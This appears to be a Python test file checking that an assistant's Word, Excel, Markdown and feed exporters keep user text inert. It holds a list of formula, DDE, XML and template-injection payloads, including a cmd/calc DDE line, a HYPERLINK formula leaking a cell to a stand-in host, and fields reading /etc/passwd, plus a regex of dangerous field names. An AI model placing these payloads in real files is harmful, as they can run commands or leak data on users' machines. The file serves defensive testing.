"""What leaves the product as a file holds text: no formula, no link elsewhere, no broken XML."""

import csv
import io
import re
import subprocess
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from docx import Document
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from lxml import etree
from openpyxl import load_workbook
from papers_builders import made, template

from assistant.drafting.draft import Group
from assistant.drafting.own_template import filled
from assistant.eligibility.notices import Notice, feed
from assistant.errors import BadRequest
from assistant.papers.content import Figure, Heading, Line, Paper, Table
from assistant.papers.official import as_official
from assistant.papers.pdf import program_path
from assistant.papers.plain import as_markdown
from assistant.papers.word import as_docx
from assistant.papers.workbook import as_xlsx

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
DAY = date(2026, 11, 23)
# Of our own: what spreadsheets run, what only looks like it, and what breaks XML.
HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://foreign.example/?"&A1,"打开")',
    "+1-2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "＝1+1",
    "＋cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u200b=1+1",
    "#REF!",
    "-12.5",
    "+86 138 0000 0000",
    "</w:t></w:r><w:fldSimple w:instr='DDEAUTO c:\\\\x \"y\"'/>",
    "]]><x/>&amp;<!--",
    "甲\x00乙\x0b丙\x1f丁\ufffe\ud800戊",
    "_x003D_1+1",
    "{{ 7*7 }}{% for a in b %}",
    'x" Target="http://foreign.example/a" TargetMode="External',
)
# Of what a draft is made, half a character is refused before.
DRAFTED = tuple(text.replace("\ud800", "") for text in HOSTILE)
KEPT = tuple(text for text in HOSTILE if text.isprintable() or set(text) <= set("\t\r\n\u200b=1+"))
LEADS = re.compile(r"^\s*(DDE|DDEAUTO|LINK|INCLUDE|IMPORT|RD|HYPERLINK|MACROBUTTON)", re.IGNORECASE)
TABLE = Table(
    title="=表'[1]", head=("=栏", "甲"), rows=tuple((text, text) for text in HOSTILE), widths=(9, 9)
)


def parts(data: bytes) -> Iterator[tuple[str, etree._Element]]:
    """Give every part of a package that is XML; one that is no XML fails the test."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.endswith((".xml", ".rels")):
                yield name, etree.fromstring(package.read(name))


def words_of(data: bytes) -> str:
    return "".join(Document(io.BytesIO(data)).element.body.itertext(f"{W}t"))


def assert_stands_by_itself(data: bytes) -> None:
    for name, root in parts(data):
        for node in root.iter():
            assert node.get("TargetMode") != "External", name
            assert etree.QName(node).localname not in ("attachedTemplate", "altChunk", "hyperlink")
            for said in (node.get(f"{W}instr"), node.text if "instr" in str(node.tag) else ""):
                assert not LEADS.match(said or ""), (name, said)


def test_every_cell_of_a_workbook_is_the_text_that_was_typed() -> None:
    book = load_workbook(io.BytesIO(as_xlsx([TABLE])))

    sheet = book.worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} == {"s"}
    assert sheet["A1"].value == "=栏"
    shown = [cell.value for cell in sheet["A"][1:]]
    assert [text for text in shown if text in KEPT] == list(KEPT)
    assert all(cell.quotePrefix for cell in sheet["A"] if str(cell.value)[:1] in "=＝+-@\t\r")
    assert not sheet["A1"].hyperlink
    assert_stands_by_itself(as_xlsx([TABLE]))


@pytest.mark.parametrize("value", ["-12.5", "+86 138 0000 0000", "2026-11-23", "007"])
def test_a_figure_reads_in_a_workbook_as_it_was_typed(value: str) -> None:
    book = load_workbook(io.BytesIO(as_xlsx([Table(head=("数",), rows=((value,),))])))

    assert book.worksheets[0]["A2"].value == value


def test_what_the_program_counted_is_a_number_and_what_was_typed_beside_it_is_not() -> None:
    rows = ((Figure.number(1234), Figure.share(0.125), "1234"), ("=1+1", "12.5%", "甲"))
    written = as_xlsx([Table(head=("数", "占比", "写的"), rows=rows)])

    sheet = load_workbook(io.BytesIO(written)).worksheets[0]
    assert [sheet[at].value for at in ("A2", "B2", "C2")] == [1234, 0.125, "1234"]
    assert [sheet[at].data_type for at in ("A2", "B2", "C2")] == ["n", "n", "s"]
    assert [sheet[at].number_format for at in ("A2", "B2")] == ["#,##0", "0.0%"]
    assert {sheet[at].data_type for at in ("A3", "B3", "C3")} == {"s"}
    assert rows[0][:2] == ("1,234", "12.5%")


def test_a_program_that_opens_a_workbook_shows_the_text(tmp_path: Path) -> None:
    program = program_path()
    if program is None or not any(Path(program).resolve().parent.glob("libsclo.*")):
        pytest.skip("no LibreOffice Calc: apt-get install libreoffice-calc-nogui")
    (tmp_path / "表.xlsx").write_bytes(as_xlsx([Table(head=("栏",), rows=TABLE.rows)]))

    subprocess.run(  # noqa: S603  (no shell, names of our own)
        [
            program, "--headless", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1",
            "--outdir", str(tmp_path), str(tmp_path / "表.xlsx"),
        ],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip

    with (tmp_path / "表.csv").open(encoding="utf-8", newline="") as file:
        shown = [row[0] for row in csv.reader(file) if row]
    assert set(KEPT) <= set(shown)


def test_a_paper_of_hostile_words_stands_by_itself_and_says_them() -> None:
    paper = Paper(
        title=HOSTILE[1],
        lead=HOSTILE,
        parts=(*map(Heading, HOSTILE), *map(Line, HOSTILE), TABLE),
    )

    written = as_docx(paper)

    assert_stands_by_itself(written)
    said = [paragraph.text for paragraph in Document(io.BytesIO(written)).paragraphs]
    assert [text for text in HOSTILE if text.isprintable() and text not in said] == []


@pytest.mark.parametrize("group", ["application", "contract"])
def test_a_draft_of_hostile_words_stands_by_itself(group: Group) -> None:
    words = "\n".join(DRAFTED)
    values = {
        "项目名称": HOSTILE[1] * 20,
        "负责人": HOSTILE[14],
        "产业问题": words,
        "转化意义": words,
    }
    draft = made(
        {**values, "里程碑": [{"时间": text, "内容": text} for text in DRAFTED]}, group=group
    )

    written = as_official(draft)

    assert_stands_by_itself(written)
    opened = Document(io.BytesIO(written))
    assert "DDEAUTO" in words_of(written)
    assert len(opened.core_properties.title) <= 255
    assert "<x/>" not in as_markdown(draft) and "![" not in as_markdown(draft)


def a_form(*instructions: str, split: bool = False) -> bytes:
    """Give somebody's own form with fields that say this, each spread over runs if told so."""
    document = Document()
    document.add_paragraph("{{ 项目名称 }}")
    for said in instructions:
        runs = document.add_paragraph().add_run()._element
        pieces = [said[:3], said[3:]] if split else [said]
        for kind in ("begin", *pieces, "end"):
            node = OxmlElement("w:fldChar" if kind in ("begin", "end") else "w:instrText")
            if kind in ("begin", "end"):
                node.set(qn("w:fldCharType"), kind)
            else:
                node.text = kind
            runs.append(node)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def test_a_form_filled_with_hostile_words_stands_by_itself() -> None:
    draft = made({"项目名称": "".join(map(repr, DRAFTED)), "产业问题": "\n".join(DRAFTED)})

    done = filled(a_form(" PAGE "), draft, template(), name="甲.docx")

    assert_stands_by_itself(done.document)
    assert "DDEAUTO" in words_of(done.document)


@pytest.mark.parametrize("split", [False, True])
@pytest.mark.parametrize(
    "said",
    [
        ' DDEAUTO c:\\\\windows\\\\cmd "/k calc" ',
        ' INCLUDEPICTURE "http://foreign.example/x.png" ',
        ' includetext "/etc/passwd" ',
        ' HYPERLINK "http://foreign.example/?{{ 项目名称 }}" ',
    ],
)
def test_a_form_with_a_field_that_fetches_or_starts_something_is_refused(
    said: str, split: bool
) -> None:
    with pytest.raises(BadRequest, match="域"):
        filled(a_form(said, split=split), made(), template(), name="甲.docx")


def test_a_feed_of_hostile_words_is_one_feed() -> None:
    told = [
        Notice(measure=text, kind="fits", name=text, text=text)
        for text in HOSTILE
        if text.isprintable()
    ]

    root = etree.fromstring(feed(told, day=DAY, address="http://127.0.0.1/#fit").encode())

    titles = [node.text for node in root.iter("{http://www.w3.org/2005/Atom}title")][1:]
    assert titles == [one.text for one in told]
